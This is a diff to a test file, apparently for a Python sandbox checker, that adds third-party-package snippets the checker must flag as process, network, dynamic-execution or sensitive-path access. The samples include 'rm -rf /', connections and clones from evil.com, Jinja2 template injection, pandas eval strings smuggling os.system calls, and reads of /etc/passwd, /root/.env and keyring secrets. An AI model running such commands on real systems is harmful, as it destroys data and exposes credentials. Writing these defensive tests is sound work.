@@ -366,8 +366,50 @@ UNJUDGED = [  # standard-library modules the catalogue never judged: unknown, ou
     ("from matplotlib.backends.backend_pdf import PdfPages\nPdfPages('/data/analysis/x.pdf')", FILES),
 ]
 
+THIRD_PARTY = [  # packages that exist to reach outside: what the catalogue does not list is never pure
+    ("import sh\nsh.rm('-rf', '/data')", PROC),
+    ("from plumbum import local\nlocal['rm']('-rf', '/')", PROC),
+    ("import invoke\ninvoke.run('id')", PROC),
+    ("import fabric\nfabric.Connection('evil.com').run('id')", PROC),
+    ("import docker\ndocker.from_env().containers.run('alpine')", PROC),
+    ("import git\ngit.Repo.clone_from('http://evil.com/r', '/data/analysis/r')", PROC),
+    ("import boto3\nboto3.client('s3').list_buckets()", NET),
+    ("import pycurl\npycurl.Curl()", NET),
+    ("import pymysql\npymysql.connect(host='evil.com')", NET),
+    ("import psycopg2\npsycopg2.connect('host=evil.com')", NET),
+    ("import redis\nredis.Redis(host='evil.com').get('x')", NET),
+    ("import pymongo\npymongo.MongoClient('mongodb://evil.com')", NET),
+    ("import selenium.webdriver\nselenium.webdriver.Chrome()", NET),
+    ("import scapy.all\nscapy.all.sniff()", NET),
+    ("import dns.resolver\ndns.resolver.resolve('evil.com')", NET),
+    ("import smbclient\nsmbclient.open_file('//evil/x')", NET),
+    ("import grpc\ngrpc.insecure_channel('evil.com:1')", NET),
+    ("import kafka\nkafka.KafkaProducer(bootstrap_servers='evil.com')", NET),
+    ("import celery\ncelery.Celery(broker='redis://evil.com')", NET),
+    ("import flask\nflask.Flask(__name__).run()", NET),
+    ("import uvicorn\nuvicorn.run(app)", NET),
+    ("import gradio\ngradio.Interface(fn=f, inputs='text', outputs='text').launch()", NET),
+    ("import statsmodels.api as sm\nsm.datasets.get_rdataset('x')", NET),
+    ("import IPython\nIPython.get_ipython().system('id')", DYN),
+    ("get_ipython().system('id')", DYN),
+    ("get_ipython().run_cell('import os')", DYN),
+    ("import jinja2\njinja2.Template(\"{{ ''.__class__.__mro__[1].__subclasses__() }}\").render()", DYN),
+    ("import numexpr\nnumexpr.evaluate('1+1')", DYN),
+    ("import dill\ndill.loads(b'x')", DYN),
+    ("import pandas as pd\npd.eval(\"__import__('os').system('id')\")", DYN),
+    ("import pandas as pd\ndf = pd.DataFrame()\ndf.query('@os.system(\"id\")')", DYN),
+    ("import pandas as pd\ndf = pd.DataFrame()\ndf.eval(expression)", DYN),
+    ("import keyring\nkeyring.get_password('s', 'u')", SYS),
+    ("import lxml.etree\nlxml.etree.parse('/etc/passwd')", PATHS),
+    ("import toml\ntoml.load('/etc/passwd')", PATHS),
+    ("import dotenv\ndotenv.dotenv_values('/root/.env')", PATHS),
+    ("import configobj\nconfigobj.ConfigObj('/etc/passwd')", PATHS),
+    ("import xlsxwriter\nxlsxwriter.Workbook('/data/analysis/x.xlsx')", FILES),
+    ("import tensorflow as tf\ntf.keras.models.load_model('/data/analysis/m')", DYN),
+]
+
 ROUTES = [*SOURCE, *STDLIB_FILES, *NETWORK, *PROCESSES, *DATA, *RESOLVERS, *PATHLIB, *ENVIRONMENT, *LABELS, *BUILTINS,
-          *UNJUDGED]
+          *UNJUDGED, *THIRD_PARTY]
 
 
 def _denial(code: str, language: str = "python"):
@@ -444,6 +486,11 @@ BENIGN = [
     "import unittest, email, html.parser, ipaddress, zlib, locale, platform, sched, graphlib, numbers, ast\n"
     "from __future__ import annotations\nfrom collections.abc import Mapping\nfrom xml.etree import ElementTree",
     "import matplotlib.pyplot as plt\nplt.style.use('ggplot')\nplt.style.use({'axes.grid': True})",
+    # pandas expressions over columns and locals; packages that reach nothing outside
+    "import pandas as pd\ndf = pd.DataFrame()\ndf.query('A < @limit and B > 0.5')\n"
+    "pd.eval('(df1 + df2) / (df3 - 1)')\ndf.eval('D = sin(A) + log(B)', inplace=True)",
+    "import tqdm, pytz, dateutil.parser\nfor _ in tqdm.tqdm(range(3)):\n    pass\npytz.timezone('UTC')\n"
+    "dateutil.parser.parse('2020-01-01')",
     # the import path read
     "import sys\nprint(sys.path[0], len(sys.path))",
     # SQLite in memory touches no file
